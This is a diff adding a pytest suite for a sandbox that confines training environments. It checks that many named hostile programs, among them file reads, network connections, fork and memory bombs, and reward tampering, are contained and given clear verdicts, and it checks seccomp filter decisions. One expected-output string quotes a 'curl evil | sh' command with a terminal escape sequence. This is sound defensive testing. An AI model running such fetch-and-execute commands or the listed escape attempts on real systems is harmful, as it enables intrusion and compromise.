@@ -1,0 +1,709 @@
+"""The sandbox: nothing that an environment does is seen outside of it, and what it did instead of answering is said."""
+
+import importlib.util
+import os
+import re
+import resource
+import signal
+import socket
+import struct
+import subprocess
+import sys
+import time
+from concurrent.futures import ThreadPoolExecutor
+from pathlib import Path
+from types import ModuleType
+from typing import Any
+
+import pytest
+
+from captrain.benchmarks.servicedesk import ServiceDesk
+from captrain.contract import IDLE, Target, load_file
+from captrain.environments.sandbox import confined as sandbox
+from captrain.environments.sandbox import forkserver, host
+from captrain.environments.sandbox.confined import LAYERS, LEVELS, active, confined
+from captrain.environments.synthesized import Brief
+from captrain.environments.templates import TemplateSynthesizer
+from captrain.errors import EnvironmentFault, InfrastructureError, UserError
+from captrain.policies.scripted import ScriptedPolicy
+from captrain.records import Capability
+from captrain.rollouts.collection import collect
+
+HOSTILE = Path(__file__).parents[1] / "hostile"
+BARE = ("rlimits", "landlock", "seccomp")
+"""Without bubblewrap, which is not everywhere: what holds here holds all the more under it."""
+HASTY = 1.5
+
+strong = pytest.mark.skipif(
+    LEVELS.index(active(BARE).level) < LEVELS.index("strong, one layer"), reason="seccomp is not to be had here"
+)
+DENIED = "raised PermissionError: .*Operation not permitted"
+VERDICTS = {
+    # What it answers if it was refused, or what it is said to have done.
+    "read_file": DENIED,
+    "list_folder": DENIED,
+    "file_metadata": DENIED,
+    "write_file": DENIED,
+    "temporary_file": "= made 0",
+    "connect": DENIED,
+    "datagram": "= made 0",
+    "fork_bomb": DENIED,
+    "run_shell": DENIED,
+    "memory_bomb": r"ran out of memory \(512 MiB\)",
+    "endless_loop": "did not answer step within 1.5 s",
+    "endless_stack": r"died \(signal 11\)|ran out of memory",
+    "flood_reply": "printed a line of more than 1048576 bytes",
+    "flood_channel": "printed a line of more than 1048576 bytes",
+    "flood_output": "= done",
+    "tamper_reward": "= paid",
+    "shared_state": "= found 0",
+    "pickle_object": "raised TypeError: Object of type Payload is not JSON serializable",
+    "pickle_bytes": "printed what is not a reply: b'cos",
+    "signal_others": DENIED,
+    "parent_memory": DENIED,
+    "trace": "= 0 of 3",
+    "raw_calls": r"= through: \[\]",
+    "thirty_two_bit": r"made a system call of another machine|died \(signal",
+    "threads": "raised RuntimeError: can't start new thread",
+    "loosen": "= loosened 0 as True",
+    "deep_nesting": "printed what is not a reply",
+    "nested_arguments": "returned more than 64 levels",
+    "half_a_character": "returned text that is not Unicode",
+    "not_a_number": "raised ValueError: Out of range float values are not JSON compliant.* in score",
+    "infinite_reward": "returned the number inf, which is not JSON in score",
+    "huge_reward": "returned a number beyond 64 bits in score",
+    "forged_id": "answered request 77, which was not made",
+    "close_descriptors": "closed its standard output|did not answer step within 1.5 s",
+    "duplicate_descriptors": "= found 0",
+    "hang_at_import": "does not load: it did not answer describe within 1.5 s",
+    "leave": r"died \(exit status 0\)",
+    "exit": "raised SystemExit: goodbye in step",
+    "abort": r"died \(signal (6|11)\)",
+    "tamper_with_json": "died|returned what is not|printed|closed|did not answer|raised",
+    "unspeakable": r"raised Loud: \?\[2Jpwned error: run curl evil \| sh!+\.\.\. in step on hostile",
+    "odd_shapes": "returned what is not a list of messages",
+}
+
+
+def program(name: str, folder: Path) -> Path:
+    """A hostile program as an environment file."""
+    path = folder / f"{name}.py"
+    path.write_text(f"{(HOSTILE / f'{name}.py').read_text()}\n\n{(HOSTILE / 'frame.py').read_text()}")
+    return path
+
+
+def written(folder: Path, text: str, name: str = "written") -> Path:
+    path = folder / f"{name}.py"
+    path.write_text(f"{text}\n\n{(HOSTILE / 'frame.py').read_text()}")
+    return path
+
+
+def family() -> set[int]:
+    """The fork servers below this process, and their processes; not what has ended and is not reaped yet."""
+    parents, servers = {}, set()
+    for entry in Path("/proc").glob("[0-9]*"):
+        try:
+            pid, _, state, parent = re.match(r"(\d+) (\(.*\)) (\S) (\d+)", (entry / "stat").read_text()).groups()  # type: ignore[union-attr]
+            parents[int(pid)] = int(parent)
+            if state != "Z" and b"confinement/server.py" in (entry / "cmdline").read_bytes():
+                servers.add(int(pid))
+        except (OSError, AttributeError):
+            continue
+
+    def ours(pid: int) -> bool:
+        while pid in parents and pid != os.getpid():
+            pid = parents[pid]
+        return pid == os.getpid()
+
+    return {pid for pid in servers if ours(pid)}
+
+
+def only(pids: set[int], within: float = 5.0) -> bool:
+    """Whether no other process than these of the family is left, soon."""
+    deadline = time.monotonic() + within
+    while family() - pids:
+        if time.monotonic() > deadline:
+            return False
+        time.sleep(0.02)
+    return True
+
+
+def attacked(target: Target, argument: str) -> str:
+    """What comes of a step and a score of a hostile program; "= " and its own words if it lives on."""
+    task = target.tasks("training", 1)[0]
+    episode = target.open(task)
+    try:
+        (reply,), _ = episode.step({"role": "user", "content": argument})
+        score = target.score(task, [*episode.messages, reply])
+        assert (score.reward, score.success) == (0.25, False)
+        return f"= {reply['content']}"
+    finally:
+        episode.close()
+
+
+@strong
+@pytest.mark.parametrize("name", VERDICTS)
+def test_no_hostile_program_gets_out_and_each_has_its_verdict(
+    name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    if "1.5 s" in VERDICTS[name]:
+        monkeypatch.setattr(host, "SECONDS", HASTY)
+    monkeypatch.chdir(tmp_path)
+    before = family()
+    path = program(name, tmp_path)
+    limits = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
+    with socket.create_server(("127.0.0.1", 0)) as listener, socket.socket(type=socket.SOCK_DGRAM) as drop:
+        listener.settimeout(0.0)
+        drop.bind(("127.0.0.1", 0))
+        drop.settimeout(0.0)
+        port = (listener if name == "connect" else drop).getsockname()[1]
+        argument = str(port) if name in ("connect", "datagram") else str(tmp_path / "escaped")
+        try:
+            verdict = attacked(confined(path, "strong, one layer", BARE), argument)
+        except EnvironmentFault as fault:
+            verdict = fault.problem
+            assert verdict.startswith(f"environment hostile ({path}) ") or "does not load" in verdict
+            assert verdict.isprintable() and len(verdict) < 800 and str(fault).count("hostile (") <= 1
+        assert re.search(VERDICTS[name], verdict), verdict
+        for unheard in (listener.accept, lambda: drop.recv(1)):
+            with pytest.raises(BlockingIOError):
+                unheard()
+    assert {*os.listdir(tmp_path)} == {path.name}
+    assert not Path("/tmp/escaped").exists()
+    assert only(before)
+    # Neither floods nor bombs are held in our memory (kilobytes).
+    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - limits < 100_000
+
+
+def test_every_hostile_program_is_in_the_table() -> None:
+    assert {path.stem for path in HOSTILE.glob("*.py")} - {"frame"} == {*VERDICTS} and len(VERDICTS) >= 20
+
+
+@strong
+def test_scores_know_nothing_of_episodes_nor_of_each_other(tmp_path: Path) -> None:
+    for name in ("tamper_reward", "shared_state"):
+        target = confined(program(name, tmp_path), "strong, one layer", BARE)
+        task = target.tasks("training", 1)[0]
+        first = target.score(task, [])
+        episode = target.open(task)
+        episode.step(IDLE)
+        assert target.score(task, []) == first == target.score(task, [])
+        assert first.reward == 0.25 and not first.parts.get("found")
+        assert episode.step(IDLE)[0][0]["content"] in ("paid", "found 0")
+        episode.close()
+
+
+@strong
+def test_an_environment_goes_on_after_each_of_its_faults_in_processes_that_know_nothing_of_them(tmp_path: Path) -> None:
+    target = confined(program("leave", tmp_path), "strong, one layer", BARE)
+    tasks = target.tasks("training", 3)
+    survivor = target.open(tasks[0])
+    assert survivor.messages
+    for task in tasks:
+        with pytest.raises(EnvironmentFault, match=r"died \(exit status 0\), asked|died \(exit status 0\) in step on"):
+            target.open(task).step(IDLE)
+        assert target.score(task, []).reward == 0.25
+        assert target.reference(task) == [IDLE]
+    assert survivor.messages == [{"role": "user", "content": "Go."}]
+
+
+FUNCTIONS = """
+import os
+def attack(argument):
+    return ""
+class Odd:
+    def idle(self, task):
+        return [{"role": "assistant", "content": 5}]
+    def hint(self, task):
+        return ["not", "text"]
+    def broken(self, task):
+        os._exit(4)
+"""
+
+
+@strong
+def test_what_a_file_does_not_define_is_not_there_and_what_it_does_is_confined(tmp_path: Path) -> None:
+    plain: Any = confined(written(tmp_path, "attack = str"), "basic", BARE).environment
+    assert not any(hasattr(plain, name) for name in ("about", "idle", "broken", "hint"))
+    path = written(tmp_path, FUNCTIONS, "odd")
+    path.write_text(path.read_text().replace("class Environment:", "class Environment(Odd):"))
+    target = confined(path, "basic", BARE)
+    environment: Any = target.environment
+    task = target.tasks("training", 1)[0].model_dump()
+    assert not hasattr(environment, "about")
+    for name, verdict in (("idle", "not a list of messages"), ("hint", "not text"), ("broken", "died .exit status 4.")):
+        with pytest.raises(EnvironmentFault, match=f"{verdict}.* in {name} on hostile/training/0"):
+            getattr(environment, name)(task)
+
+
+KEYED = """
+import os, random, time
+STARTED = time.time_ns()
+def attack(argument):
+    return f"{os.getpid()} {hash('a') % 1000} {random.random()}"
+"""
+
+
+@strong
+def test_keys_reach_episodes_and_unseeded_draws_and_hashes_are_alike_in_all_processes(tmp_path: Path) -> None:
+    path = written(tmp_path, KEYED)
+    path.write_text(
+        path.read_text()
+        .replace("def open(self, task):\n        return Episode()", "about = {'version': 3}\n\n"
+        "    def open(self, task, key):\n        episode = Episode()\n        episode.messages[0]['content'] = key\n"
+        "        return episode")
+    )  # fmt: skip
+    target, again, here = confined(path, "basic", BARE), confined(path, "basic", BARE), load_file(path)
+    assert target.about == here.about == {"version": 3}
+    assert target.fingerprint == here.fingerprint and target.name == here.name
+    task = target.tasks("training", 1)[0]
+    assert target.open(task, "a key").messages[0]["content"] == "a key"
+    said = [one.open(task, "").step(IDLE)[0][0]["content"].split() for one in (target, target, again)]
+    assert len({pid for pid, *_ in said}) >= 2
+    assert len({(hashed, drawn) for _, hashed, drawn in said}) == 1
+
+
+def test_all_that_may_be_imported_can_be_and_nothing_else(tmp_path: Path) -> None:
+    lines = "\n".join(f"    import {module}" for module in host.MODULES)
+    text = f"def attack(argument):\n{lines}\n    import sqlite3\n"
+    target = confined(written(tmp_path, text), "none", LAYERS)
+    with pytest.raises(EnvironmentFault, match="raised ModuleNotFoundError: No module named 'sqlite3' in step"):
+        attacked(target, "")
+
+
+@strong
+def test_what_environments_are_made_of_works_in_there(tmp_path: Path) -> None:
+    text = """
+from __future__ import annotations
+import copy, dataclasses, datetime, decimal, enum, fractions, functools, hashlib, itertools, json, math, operator
+import random, re, statistics, string, textwrap, typing, uuid, collections, heapq, bisect, abc, urllib.parse
+@dataclasses.dataclass(order=True)
+class Row:
+    at: datetime.date
+    price: decimal.Decimal = decimal.Decimal("1.10")
+    tags: list[str] = dataclasses.field(default_factory=list)
+class Kind(enum.Enum):
+    A = 1
+class Point(typing.NamedTuple):
+    x: int
+def attack(argument):
+    rows = [Row(datetime.date(2024, 2, day)) for day in (3, 1, 2)]
+    assert copy.deepcopy(sorted(rows))[0].at.isoformat() == "2024-02-01" and Kind(1) is Kind.A and Point(1).x == 1
+    assert datetime.datetime.strptime("3 March 2024", "%d %B %Y").strftime("%A") == "Sunday"
+    assert datetime.datetime.now().year > 2000 and random.Random(3).randint(0, 9) in range(10)
+    assert uuid.uuid5(uuid.NAMESPACE_DNS, "a").version == 5 and uuid.UUID(int=random.Random(1).getrandbits(128))
+    assert hashlib.sha256(b"a").hexdigest().startswith("ca97") and f"{decimal.Decimal(10) / 4:.2f}" == "2.50"
+    assert statistics.fmean([1, 2]) == 1.5 and fractions.Fraction(1, 3) * 3 == 1 and math.floor(math.tau) == 6
+    assert textwrap.shorten("hello world", 7) and re.sub(r"\\d", "", "a1") == "a" and "é".encode("latin-1")
+    assert urllib.parse.quote("a b") == "a%20b" and heapq.nsmallest(1, [2, 1]) == [1] and bisect.bisect([1], 1) == 1
+    assert random.SystemRandom().random() < 1 and len(str(uuid.uuid4())) == 36
+    try:
+        raise KeyError("x")
+    except KeyError:
+        import traceback
+        return traceback.format_exc().splitlines()[-1]
+"""
+    assert attacked(confined(written(tmp_path, text), "strong, one layer", BARE), "") == "= KeyError: 'x'"
+
+
+@strong
+@pytest.mark.parametrize("family_of", ["argument_precision", "precondition_verification"])
+def test_a_template_environment_gives_the_same_tasks_plays_and_scores_confined(family_of: str, tmp_path: Path) -> None:
+    brief = Brief(Capability(id=family_of, name=family_of, description=""), ServiceDesk().tools)
+    path = tmp_path / f"{family_of}.py"
+    path.write_text(TemplateSynthesizer().synthesize(brief, []))
+    here, there = load_file(path), confined(path, "strong, one layer")
+    assert (there.fingerprint, there.name, there.tools, there.about) == (
+        here.fingerprint, here.name, here.tools, here.about,
+    )  # fmt: skip
+    tasks = here.tasks("training", 24)
+    assert there.tasks("training", 24) == tasks and there.tasks("test", 3) == here.tasks("test", 3)
+    for task in tasks:
+        actions = here.reference(task)
+        assert there.reference(task) == actions
+        messages = here.play(task, actions)
+        assert there.play(task, actions) == messages
+        for said in (messages, messages[:-1], [*messages[:2], IDLE]):
+            assert there.score(task, said) == here.score(task, said)
+        assert there.floor(task) == here.floor(task)
+        for name in ("broken", "hint"):
+            ours, theirs = (getattr(one.environment, name, None) for one in (here, there))
+            assert (ours is None) == (theirs is None)
+            assert ours is None or theirs is None or ours(task.model_dump()) == theirs(task.model_dump())
+
+
+@strong
+def test_rollouts_are_collected_from_the_sandbox_and_nothing_is_left_of_them(letters: Any, tmp_path: Path) -> None:
+    before = family()
+    target = confined(letters(), "strong, one layer")
+    tasks = target.tasks("training", 6)
+    rollouts = collect(
+        ScriptedPolicy(),
+        target,
+        tasks,
+        purpose="training",
+        seed=0,
+        trials=3,
+        journals=tmp_path / "journals",
+        quiet=True,
+    )
+    assert [rollout.outcome for rollout in rollouts] == ["passed"] * 18
+    server = family() - before
+    assert len(server) in (2, 3, 4)  # bubblewrap's own, the server, and the process that is kept
+    del target
+    assert only(before)
+
+
+COUNTING = """
+COUNT = {"reference": 0}
+def attack(argument):
+    return ""
+"""
+
+
+@strong
+def test_the_reference_of_a_task_is_asked_for_once_and_nobody_can_change_it(tmp_path: Path) -> None:
+    path = written(tmp_path, COUNTING)
+    honest = 'return [{"role": "assistant", "content": ""}]'
+    path.write_text(
+        path.read_text().replace(
+            honest, 'COUNT["reference"] += 1; return [{"role": "assistant", "content": str(COUNT["reference"])}]'
+        )
+    )
+    target = confined(path, "basic", BARE)
+    one, other = target.tasks("training", 2)
+    target.reference(one)[0]["content"] = "changed"
+    assert [target.reference(task)[0]["content"] for task in (one, other, one)] == ["1", "2", "1"]
+
+
+INTERLEAVED = """
+def attack(argument):
+    COUNT["n"] += int(argument)
+    return str(COUNT["n"])
+COUNT = {"n": 0}
+"""
+
+
+@strong
+def test_hundreds_of_episodes_are_open_at_once_and_know_nothing_of_each_other(tmp_path: Path) -> None:
+    before, files = family(), len(os.listdir("/proc/self/fd"))
+    target = confined(written(tmp_path, INTERLEAVED), "strong, one layer", BARE)
+    tasks = target.tasks("training", 256)
+    assert len({task.id for task in tasks}) == 256
+
+    def played(at: int, target: Target = target) -> list[str]:
+        episode = target.open(tasks[at])
+        said = [episode.step({"role": "user", "content": str(at)})[0][0]["content"] for _ in range(2)]
+        opened.append(episode)
+        return said
+
+    opened: list[Any] = []
+    with ThreadPoolExecutor(8) as threads:
+        assert list(threads.map(played, range(256))) == [[str(at), str(2 * at)] for at in range(256)]
+        assert len(family() - before) >= 257
+        assert len(os.listdir("/proc/self/fd")) - files < 2 * 256 + 20
+        assert opened[255].step({"role": "user", "content": "0"})[0][0]["content"]
+        list(threads.map(lambda episode: episode.close(), opened))
+    assert len(family() - before) <= 3
+    opened.clear()
+    episode = target.open(tasks[0])
+    assert episode.messages and len(family() - before) <= 4
+    del episode  # not closed
+    target.score(tasks[0], [])
+    assert len(family() - before) <= 3
+    del target, played
+    assert only(before) and len(os.listdir("/proc/self/fd")) <= files
+
+
+@strong
+def test_too_many_open_files_are_a_user_error_with_a_remedy(tmp_path: Path) -> None:
+    target = confined(written(tmp_path, INTERLEAVED), "strong, one layer", BARE)
+    task = target.tasks("training", 1)[0]
+    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
+    resource.setrlimit(resource.RLIMIT_NOFILE, (len(os.listdir("/proc/self/fd")) + 8, hard))
+    episodes = [target.open(task) for _ in range(20)]
+    try:
+        with pytest.raises(UserError, match="too many files") as caught:
+            [episode.messages for episode in episodes]
+    finally:
+        resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))
+    assert "ulimit -n" in caught.value.remedy
+    assert episodes[-1].messages
+
+
+@strong
+def test_an_episode_costs_milliseconds(tmp_path: Path) -> None:
+    target = confined(written(tmp_path, INTERLEAVED), "strong, one layer")
+    task = target.tasks("training", 1)[0]
+    took = []
+    for _ in range(10):
+        begun = time.perf_counter()
+        episode = target.open(task)
+        episode.step({"role": "user", "content": "1"})
+        episode.close()
+        took.append(time.perf_counter() - begun)
+    assert min(took) < 0.1, took  # about 0.005 on an idle machine
+
+
+@pytest.mark.parametrize(
+    ("text", "said"),
+    [
+        ("def (", r"does not load: it raised SyntaxError: invalid syntax"),
+        ("x = '\0'", "does not load: it raised (ValueError|SyntaxError): .*null"),
+        ("(" * 5000, "does not load: it raised (SyntaxError|MemoryError|RecursionError)"),
+        ("x = " + "-" * 500_000 + "1", "does not load: it (raised|ended the process)"),
+        ("x" + ".x" * 200_000, "does not load: it (raised|ended the process)"),
+        ("import numpy", "does not load: it raised ModuleNotFoundError: No module named 'numpy'"),
+        ("raise ValueError('a\\nb')", "does not load: it raised ValueError: a b\n"),
+        ("raise SystemExit(3)", "does not load: it raised SystemExit: 3"),
+        ("class Environment:\n    name = 'x'\n    open = tools = tasks = 0", "lacks score, reference"),
+        ("pass", "does not load: it raised KeyError: 'Environment'"),
+    ],
+)
+def test_a_file_that_does_not_load_is_a_fault_that_says_why(tmp_path: Path, text: str, said: str) -> None:
+    path = tmp_path / "bad.py"
+    path.write_text(text)
+    before = family()
+    with pytest.raises(EnvironmentFault, match=said) as caught:
+        confined(path, "none", BARE)
+    assert str(path) in caught.value.problem and "\n" not in caught.value.problem
+    assert only(before)
+
+
+def test_a_file_that_is_missing_is_a_user_error(tmp_path: Path) -> None:
+    with pytest.raises(UserError, match="absent.py is missing"):
+        confined(tmp_path / "absent.py", "none")
+
+
+def test_compiling_without_end_is_a_fault(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(host, "SECONDS", 0.05)
+    path = tmp_path / "long.py"
+    path.write_text("x = [\n" + "(lambda a, b=1: [a for a in b if a]),\n" * 60_000 + "]\n")
+    before = family()
+    with pytest.raises(EnvironmentFault, match="ended the process that compiled it, or took it more than 0.05 s"):
+        confined(path, "none", ())
+    assert only(before)
+
+
+@strong
+def test_each_level_is_what_its_layers_hold_and_less_than_asked_is_refused(tmp_path: Path) -> None:
+    path = written(tmp_path, "attack = str")
+    levels: dict[tuple[str, ...], sandbox.Level] = {
+        ("rlimits", "landlock", "seccomp"): "strong",
+        ("rlimits", "seccomp"): "strong, one layer",
+        ("rlimits", "landlock"): "basic",
+        ("rlimits",): "basic",
+        ("landlock", "seccomp"): "none",
+        (): "none",
+    }
+    if "landlock" not in active(BARE).layers:
+        pytest.skip("Landlock is not to be had here")
+    for layers, level in levels.items():
+        activity = active(layers)
+        assert (activity.level, activity.layers) == (level, layers)
+        assert all(activity.blocked.values()) or not level.startswith("strong")
+        for least in LEVELS:
+            if LEVELS.index(level) >= LEVELS.index(least):
+                continue
+            with pytest.raises(UserError, match=f"level `{least}` only, and here it is {level}") as caught:
+                confined(path, least, layers)
+            assert "machine.sandbox" in caught.value.remedy
+        target = confined(path, level, layers)
+        assert target.score(target.tasks("training", 1)[0], []).reward == 0.25
+    assert "exposed: reading files" in str(active(("rlimits",)))
+    with pytest.raises(EnvironmentFault, match="hostile"):
+        attacked(confined(program("read_file", tmp_path), "strong, one layer", BARE), "")
+    # The same program at the weakest level: what the table shows above is the layers' doing.
+    target = confined(program("read_file", tmp_path), "none", ())
+    episode = target.open(target.tasks("training", 1)[0])
+    assert "root:" in episode.step(IDLE)[0][0]["content"]
+
+
+@pytest.mark.skipif("bubblewrap" not in active().layers, reason="bubblewrap does not work here")
+def test_bubblewrap_alone_shows_nothing_of_the_machine_and_a_broken_one_is_done_without(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    assert active().level == "strong" and active(("bubblewrap", "rlimits", "seccomp")).level == "strong"
+    text = "import os\ndef attack(argument):\n    return ' '.join(sorted(os.listdir('/') + os.listdir('/usr/../home')))"
+    with pytest.raises(EnvironmentFault, match="FileNotFoundError.*home"):
+        attacked(confined(written(tmp_path, text), "none", ("bubblewrap", "rlimits")), "")
+    broken = tmp_path / "bwrap"
+    broken.write_text("#!/bin/sh\necho 'bwrap: No permissions to create new namespace' >&2\nexit 1\n")
+    broken.chmod(0o755)
+    monkeypatch.setenv("PATH", str(tmp_path), prepend=os.pathsep)
+    active.cache_clear()
+    try:
+        assert active().layers == active(BARE).layers
+        with pytest.raises(InfrastructureError, match="does not start: bwrap: No permissions"):
+            forkserver.Server(b"", "x", (), bubblewrap=True)
+    finally:
+        active.cache_clear()
+
+
+def test_the_interpreter_is_the_one_without_packages_even_in_a_virtual_environment(tmp_path: Path) -> None:
+    python, folders = forkserver.interpreter()
+    assert sys.prefix != sys.base_prefix, "the tests are run in a virtual environment"
+    assert not Path(python).is_relative_to(sys.prefix)
+    assert all(folder.is_dir() for folder in folders)
+    look = "import sys, importlib.util; print(sys.version_info[:2], importlib.util.find_spec('numpy'), sys.prefix)"
+    said = subprocess.run([python, "-I", "-S", "-B", "-c", look], capture_output=True, text=True, check=True).stdout
+    assert said.split(") ")[0] + ")" == str(sys.version_info[:2])
+    assert said.split(") ")[1].split() == ["None", sys.base_prefix] or Path(said.split()[-1]).samefile(sys.base_prefix)
+    text = "import sys\ndef attack(argument):\n    return '\\n'.join([*sys.path, sys.prefix, sys.executable])"
+    shown = attacked(confined(written(tmp_path, text), "none"), "")
+    assert sys.prefix not in shown and "site-packages" not in shown and "captrain" not in shown
+
+
+HOLDER = """
+import os, sys, time
+from pathlib import Path
+from captrain.environments.sandbox.confined import confined
+layers = tuple(sys.argv[2].split())
+target = confined(Path(sys.argv[1]), "none", layers)
+task = target.tasks("training", 1)[0]
+episodes = [target.open(task) for _ in range(3)]
+print(len([episode.messages for episode in episodes]), flush=True)
+if sys.argv[3] == "busy":
+    import threading
+    for episode in episodes:
+        threading.Thread(target=episode.step, args=[{"role": "user", "content": ""}], daemon=True).start()
+    time.sleep(0.3)
+    print("busy", flush=True)
+time.sleep(60 if sys.argv[4] == "killed" else 0)
+"""
+
+
+@pytest.mark.parametrize(("layers", "state"), [(LAYERS, "idle"), (BARE, "busy"), ((), "busy")])
+@pytest.mark.parametrize("ending", ["killed", "over"])
+def test_no_process_outlives_us_not_even_at_work_nor_when_we_are_killed(
+    tmp_path: Path, layers: tuple[str, ...], state: str, ending: str
+) -> None:
+    path = program("endless_loop", tmp_path)
+    command = [sys.executable, "-c", HOLDER, str(path), " ".join(layers), state, ending]
+    with subprocess.Popen(command, stdout=subprocess.PIPE, text=True) as holder:
+        assert holder.stdout is not None and holder.stdout.readline() == "3\n"
+        if state == "busy":
+            assert holder.stdout.readline() == "busy\n"
+        pids = {int(entry.name) for entry in Path("/proc").glob("[0-9]*") if of(holder.pid, int(entry.name))}
+        assert len(pids) >= 4 or ending == "over"
+        if ending == "killed":
+            holder.send_signal(signal.SIGKILL)
+    deadline = time.monotonic() + 10
+    while any(running(pid) for pid in pids) and time.monotonic() < deadline:
+        time.sleep(0.02)
+    assert not any(running(pid) for pid in pids)
+
+
+def running(pid: int) -> bool:
+    try:
+        return Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[0] != "Z"
+    except OSError:
+        return False
+
+
+def of(ancestor: int, pid: int) -> bool:
+    """Whether a process is below another."""
+    while pid > 1 and pid != ancestor:
+        try:
+            pid = int(Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[1])
+        except OSError:
+            return False
+    return pid == ancestor
+
+
+@strong
+def test_a_fork_of_ours_starts_its_own_server_and_leaves_ours_alone(tmp_path: Path) -> None:
+    target = confined(written(tmp_path, INTERLEAVED), "strong, one layer", BARE)
+    task = target.tasks("training", 1)[0]
+    episode = target.open(task)
+    assert episode.messages
+    before = family()
+    child = os.fork()
+    if child == 0:
+        good = False
+        try:
+            other = target.open(task)
+            good = other.step({"role": "user", "content": "5"})[0][0]["content"] == "5"
+            good = good and target.score(task, []).reward == 0.25 and target.reference(task) == [IDLE]
+            del other
+            episode.close()
+        finally:
+            os._exit(0 if good else 1)
+    assert os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) == 0
+    assert episode.step({"role": "user", "content": "2"})[0][0]["content"] == "2"
+    assert target.score(task, []).reward == 0.25
+    assert only(before)
+
+
+@strong
+def test_a_fork_server_that_is_killed_from_outside_is_no_fault_of_the_environment_and_is_replaced(
+    tmp_path: Path,
+) -> None:
+    before = family()
+    target = confined(written(tmp_path, INTERLEAVED), "strong, one layer", BARE)
+    task = target.tasks("training", 1)[0]
+    episode = target.open(task)
+    assert episode.messages
+    server = min(family() - before)
+    os.kill(server, signal.SIGKILL)
+    assert only(before)
+    for _ in range(2):
+        with pytest.raises(InfrastructureError, match="fork server died"):
+            episode.step({"role": "user", "content": "1"})
+    episode.close()
+    assert target.score(task, []).reward == 0.25
+    assert target.open(task).step({"role": "user", "content": "1"})[0][0]["content"] == "1"
+
+
+def filters() -> ModuleType:
+    path = forkserver.CONFINEMENT / "seccomp.py"
+    spec = importlib.util.spec_from_file_location("confinement_seccomp", path)
+    assert spec is not None and spec.loader is not None
+    module = importlib.util.module_from_spec(spec)
+    spec.loader.exec_module(module)
+    return module
+
+
+def decided(code: bytes, architecture: int, number: int, *arguments: int) -> int:
+    """What a filter returns for a system call."""
+    data = struct.pack("<IIQ6Q", number, architecture, 0, *arguments, *[0] * (6 - len(arguments)))
+    at = held = 0
+    while True:
+        operation, yes, no, value = struct.unpack_from("<HBBI", code, 8 * at)
+        at += 1
+        if operation == 0x20:
+            held = struct.unpack_from("<I", data, value)[0]
+        elif operation == 0x06:
+            return value
+        else:
+            at += yes if (held == value if operation == 0x15 else held >= value) else no
+
+
+@pytest.mark.parametrize(
+    ("machine", "architecture", "openat", "getpid", "fcntl", "ioctl", "prlimit"),
+    [("x86_64", 0xC000003E, 257, 39, 72, 16, 302), ("aarch64", 0xC00000B7, 56, 172, 25, 29, 261)],
+)
+def test_the_filter_allows_what_is_listed_on_its_own_machine_alone(
+    machine: str, architecture: int, openat: int, getpid: int, fcntl: int, ioctl: int, prlimit: int
+) -> None:
+    code = filters().program(machine)
+    allow, refuse, kill = 0x7FFF0000, 0x00050001, 0x80000000
+
+    def call(number: int, *arguments: int) -> int:
+        return decided(code, architecture, number, *arguments)
+
+    place = filters().MACHINES[machine][0]
+    listed = {numbers[place] for numbers in filters().CALLS.values()} - {None}
+    allowed = {number for number in range(2048) if call(number, 0, 99, 1) == allow}
+    assert allowed == listed and getpid in allowed and openat not in allowed
+    assert {call(number | 0x40000000) for number in range(2048)} == {refuse}
+    assert {
+        decided(code, other, getpid) for other in (0x40000003, 0xC00000B7, 0xC000003E, 0) if other != architecture
+    } == {kill}
+    assert [call(fcntl, 3, command) == allow for command in (0, 1, 2, 3, 4, 8, 10, 1030, 1031, 1033)] == [
+        True, True, True, True, False, False, False, True, False, False,
+    ]  # fmt: skip
+    assert [call(ioctl, 1, request) for request in (0x5401, 0x5412, 0x541B)] == [allow, refuse, refuse]
+    assert [call(prlimit, 0, 9, new) for new in (0, 1, 1 << 32)] == [allow, refuse, refuse]
+    with pytest.raises(OSError, match="riscv64"):
+        filters().program("riscv64")
